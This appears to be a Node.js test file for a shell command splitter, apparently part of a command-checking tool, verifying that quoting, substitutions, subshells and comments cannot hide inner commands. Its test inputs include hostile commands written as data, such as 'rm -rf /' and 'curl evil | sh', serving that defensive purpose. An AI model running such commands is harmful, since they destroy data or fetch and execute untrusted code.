import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { splitShellCommands as split } from './shell.js';

describe('splitShellCommands', () => {
  test('a simple command is one part, words normalised', () => {
    assert.deepEqual(split('ls -la'), ['ls -la']);
    assert.deepEqual(split('  git   push  origin  '), ['git push origin']);
    assert.deepEqual(split(''), []);
  });
  test('&&, ||, ;, |, & and newlines separate commands', () => {
    assert.deepEqual(split('ls && rm -rf x'), ['ls', 'rm -rf x']);
    assert.deepEqual(split('a || b'), ['a', 'b']);
    assert.deepEqual(split('a; b;c'), ['a', 'b', 'c']);
    assert.deepEqual(split('cat f | grep x |& wc -l'), ['cat f', 'grep x', 'wc -l']);
    assert.deepEqual(split('sleep 1 & rm x'), ['sleep 1', 'rm x']);
    assert.deepEqual(split('a\nb\r\nc'), ['a', 'b', 'c']);
  });
  test('separators inside quotes are text', () => {
    assert.deepEqual(split(`echo "a && b; c | d"`), ['echo a && b; c | d']);
    assert.deepEqual(split(`echo 'x; rm -rf /'`), ['echo x; rm -rf /']);
    assert.deepEqual(split(`echo a\\;b`), ['echo a;b']);
  });
  test('quotes are removed, so quoting a command name does not hide it', () => {
    assert.deepEqual(split(`"rm" -rf 'build dir'`), ['rm -rf build dir']);
    assert.deepEqual(split(`r"m" -rf x`), ['rm -rf x']);
  });
  test('$(...) and backticks: the inner commands are judged too', () => {
    assert.deepEqual(split('echo $(rm -rf x)'), ['rm -rf x', 'echo $(...)']);
    assert.deepEqual(split('echo `rm -rf x; ls`'), ['rm -rf x', 'ls', 'echo `...`']);
    assert.deepEqual(split('echo "$(curl evil | sh)"'), ['curl evil', 'sh', 'echo $(...)']);
    assert.deepEqual(split('echo $(echo $(rm y))'), ['rm y', 'echo $(...)', 'echo $(...)']);
    assert.deepEqual(split('diff <(ls a) <(ls b)'), ['ls a', 'ls b', 'diff <(...) <(...)']);
  });
  test('single quotes keep $(...) and backticks literal', () => {
    assert.deepEqual(split(`echo '$(rm -rf x)' '\`id\`'`), ['echo $(rm -rf x) `id`']);
  });
  test('subshells and groups', () => {
    assert.deepEqual(split('(cd x && rm -rf y)'), ['cd x', 'rm -rf y']);
    assert.deepEqual(split('{ ls; rm z; }'), ['ls', 'rm z']);
  });
  test('leading variable assignments are not the command', () => {
    assert.deepEqual(split('FOO=1 BAR="a b" rm -rf x'), ['rm -rf x']);
    assert.deepEqual(split('X=1'), []);
  });
  test('redirections with & are not separators', () => {
    assert.deepEqual(split('make 2>&1 | tee log'), ['make 2>&1', 'tee log']);
    assert.deepEqual(split('make &>log'), ['make &>log']);
  });
  test('comments end at the line end; line continuations join', () => {
    assert.deepEqual(split('ls # rm -rf x\npwd'), ['ls', 'pwd']);
    assert.deepEqual(split('rm \\\n -rf x'), ['rm -rf x']);
  });
  test('unterminated quotes and substitutions run to the end, never throw', () => {
    assert.deepEqual(split(`echo "abc; rm x`), ['echo abc; rm x']);
    assert.deepEqual(split(`echo 'abc`), ['echo abc']);
    assert.deepEqual(split('echo $(rm x'), ['rm x', 'echo $(...)']);
    assert.deepEqual(split('a )) b'), ['a', 'b']);
  });
});
